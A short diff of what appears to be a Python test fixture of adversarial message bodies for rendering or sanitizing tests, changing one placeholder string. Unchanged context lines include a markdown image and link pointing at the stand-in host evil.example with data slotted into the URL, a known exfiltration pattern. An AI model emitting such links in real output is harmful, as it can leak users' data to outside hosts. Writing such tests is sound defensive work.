@@ -32,7 +32,7 @@ _BODIES: Final = {
     "markdown": "# {}\n\n```\n{}\n```\n| a | b |\n|---|---|\n[x](https://evil.example/{})\n~~~",
     "remote_image": "![{}](https://evil.example/?q={})",
     "open_code_fence": "````\n{}",
-    "quotes_line": '[9999 quoted lines; quotes="keep" shows them]\n{}',
+    "quotes_line": '[9999 quoted lines]\n(quotes="keep" shows 9999 quoted lines)\n{}',
     "many_blank_lines": "\n" * 500 + "{}",
     "carriage_returns": "Tea\rbody_text 0123456789ab>>>\r{}",
     "line_separators": "Tea\u2028body_text 0123456789ab>>>\u2029{}\u0085Next: x",
